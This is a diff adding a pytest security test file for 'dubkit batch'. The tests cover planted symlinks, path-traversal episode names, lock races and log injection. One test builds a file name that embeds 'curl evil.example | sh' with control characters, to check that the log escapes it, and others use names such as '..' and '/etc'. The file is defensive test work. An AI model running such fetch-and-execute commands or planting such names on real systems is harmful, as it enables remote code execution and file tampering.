@@ -1,0 +1,203 @@
+"""`dubkit batch` against a hostile output folder and odd inputs: planted links, episode names
+that climb out of -o, control characters in names, racing and stale locks, a recording swapped
+for another of the same size and time. A fake engine (no model): milliseconds each."""
+
+from __future__ import annotations
+
+import json
+import multiprocessing
+import os
+import socket
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from dubkit.episode import batch as B
+from dubkit.errors import OutputError
+from tests.test_batch_resume import ALL_RAN, FakeStages, Loader
+
+
+def _run(stages: FakeStages, episode: B.Episode, out: Path) -> B.EpisodeOutcome:
+    B._ENGINES.clear()
+    return B.process_episode(Loader(stages), episode, str(out))
+
+
+@pytest.fixture
+def media(tmp_path: Path) -> Path:
+    path = tmp_path / "in" / "ep.wav"
+    path.parent.mkdir()
+    path.write_bytes(b"speech one")
+    return path
+
+
+# ------------------------------------------------------------------------- planted links
+
+
+@pytest.mark.parametrize("planted", ["ep/.dubkit/batch.log", "ep/.dubkit", "ep"])
+def test_a_planted_link_in_the_output_folder_is_never_written_through(
+    media: Path, tmp_path: Path, planted: str
+) -> None:
+    """A link planted where the batch log, the state folder or the episode folder go (a
+    shell start-up file, another folder) is refused: nothing is written through it."""
+    out = tmp_path / "out"
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    bashrc = victim / ".bashrc"
+    bashrc.write_text("# mine\n")
+    link = out / planted
+    link.parent.mkdir(parents=True, exist_ok=True)
+    link.symlink_to(bashrc if planted.endswith(".log") else victim)
+    outcome = _run(FakeStages(), B.Episode("ep", media), out)
+    assert outcome.status == "failed"
+    assert "link" in (outcome.error or "") and "\n" not in (outcome.error or "")
+    assert bashrc.read_text() == "# mine\n"
+    assert sorted(p.name for p in victim.iterdir()) == [".bashrc"]
+
+
+def test_control_characters_in_a_name_never_make_a_line_of_their_own_in_the_log(
+    tmp_path: Path,
+) -> None:
+    planted = "ep\ncurl evil.example | sh\r\x1b[2J"
+    media = tmp_path / "in" / f"{planted}.wav"
+    media.parent.mkdir()
+    media.write_bytes(b"speech")
+    outcome = _run(FakeStages(), B.Episode("ep", media), tmp_path / "out")
+    assert outcome.status == "done", outcome.error
+    log = (tmp_path / "out" / "ep" / ".dubkit" / "batch.log").read_text(encoding="utf-8")
+    assert not any(line.startswith("curl") for line in log.splitlines())
+    assert "\r" not in log and "\x1b" not in log
+    assert "ep\\ncurl evil.example | sh\\r\\x1b[2J.wav" in log  # escaped, still readable
+
+
+# ------------------------------------------------------------------ names that climb out
+
+
+@pytest.mark.parametrize("name", ["..", ".", "", "a/../..", "/etc", "ep\x00"])
+def test_an_episode_name_that_leaves_the_output_folder_is_refused(
+    media: Path, tmp_path: Path, name: str
+) -> None:
+    out = tmp_path / "sub" / "out"
+    out.mkdir(parents=True)
+    before = sorted(p.name for p in tmp_path.iterdir())
+    outcome = _run(FakeStages(), B.Episode(name, media), out)
+    assert outcome.status == "failed"
+    assert "episode name" in (outcome.error or "")
+    assert sorted(p.name for p in tmp_path.iterdir()) == before
+    assert list(out.iterdir()) == [] and list((tmp_path / "sub").iterdir()) == [out]
+
+
+def test_dot_and_dot_dot_folders_are_named_after_the_folder_itself(tmp_path: Path) -> None:
+    folder = tmp_path / "第一集"
+    (folder / "inner").mkdir(parents=True)
+    (folder / "programme.mp4").write_bytes(b"x")
+    (folder / "programme.srt").write_text("")
+    cwd = Path.cwd()
+    found = []
+    try:
+        for inside, given in ((folder / "inner", ".."), (folder, "."), (folder / "inner", "../.")):
+            os.chdir(inside)
+            found.append(B.discover([Path(given)]))
+    finally:
+        os.chdir(cwd)
+    for episodes, problems in found:
+        assert problems == [] and [e.name for e in episodes] == ["第一集"]
+
+
+def test_a_media_file_whose_stem_is_a_dot_is_refused(tmp_path: Path) -> None:
+    dotted = tmp_path / "..wav"
+    dotted.write_bytes(b"x")
+    episodes, problems = B.discover([dotted])
+    assert episodes == []
+    assert len(problems) == 1 and "episode name" in problems[0][1]
+
+
+# ---------------------------------------------------------------------------------- lock
+
+
+def test_a_lock_naming_a_live_process_that_holds_nothing_is_taken(tmp_path: Path) -> None:
+    """pid 1 is alive (on this host), and a lock written on another host (a restarted
+    container): neither holds the kernel lock, so neither keeps a batch out for ever."""
+    lock = tmp_path / B.LOCK_NAME
+    for host in (socket.gethostname(), "old-container"):
+        lock.write_text(json.dumps({"pid": 1, "host": host, "started": "yesterday"}))
+        with B.BatchLock(tmp_path) as taken:
+            assert taken.held
+            assert json.loads(lock.read_text())["pid"] == os.getpid()
+
+
+@pytest.mark.parametrize("kind", ["folder", "link", "huge pid"])
+def test_a_strange_lock_is_one_line_or_taken(tmp_path: Path, kind: str) -> None:
+    lock = tmp_path / B.LOCK_NAME
+    target = tmp_path / "elsewhere.txt"
+    target.write_text("keep\n")
+    if kind == "folder":
+        lock.mkdir()
+    elif kind == "link":
+        lock.symlink_to(target)
+    else:
+        lock.write_text(json.dumps({"pid": 10**30, "host": socket.gethostname()}))
+    if kind == "huge pid":  # nobody holds it: taken
+        with B.BatchLock(tmp_path) as taken:
+            assert taken.held
+        return
+    with pytest.raises(OutputError) as caught:
+        B.BatchLock(tmp_path).acquire()
+    assert "\n" not in str(caught.value) and str(lock) in str(caught.value)
+    assert target.read_text() == "keep\n"
+
+
+def _contend(folder: str, start: float, held: multiprocessing.Queue) -> None:  # type: ignore[type-arg]
+    while time.time() < start:
+        pass
+    try:
+        with B.BatchLock(Path(folder)):
+            held.put(("in", time.monotonic()))
+            time.sleep(0.02)
+            held.put(("out", time.monotonic()))
+    except OutputError:
+        pass
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="fork start method")
+def test_two_batches_starting_together_over_a_stale_lock_never_both_hold_it(
+    tmp_path: Path,
+) -> None:
+    ctx = multiprocessing.get_context("fork")
+    for trial in range(40):
+        folder = tmp_path / str(trial)
+        folder.mkdir()
+        stale = {"pid": 999_999_999, "host": socket.gethostname(), "started": "x"}
+        (folder / B.LOCK_NAME).write_text(json.dumps(stale))
+        held: multiprocessing.Queue = ctx.Queue()  # type: ignore[type-arg]
+        start = time.time() + 0.03
+        procs = [ctx.Process(target=_contend, args=(str(folder), start, held)) for _ in range(2)]
+        for p in procs:
+            p.start()
+        for p in procs:
+            p.join(10)
+        events = []
+        while not held.empty():
+            events.append(held.get())
+        events.sort(key=lambda e: e[1])
+        depth = 0
+        for kind, _ in events:
+            depth += 1 if kind == "in" else -1
+            assert depth <= 1, f"trial {trial}: two batches held the lock at once"
+
+
+# ------------------------------------------------------------------ media swapped in place
+
+
+def test_another_recording_with_the_same_size_and_time_is_transcribed_again(
+    media: Path, tmp_path: Path
+) -> None:
+    stages = FakeStages()
+    out = tmp_path / "out"
+    assert _run(stages, B.Episode("ep", media), out).stages == ALL_RAN
+    st = media.stat()
+    media.write_bytes(b"speech two")  # same length
+    os.utime(media, ns=(st.st_atime_ns, st.st_mtime_ns))
+    assert media.stat().st_size == st.st_size and media.stat().st_mtime_ns == st.st_mtime_ns
+    assert _run(stages, B.Episode("ep", media), out).stages == ALL_RAN
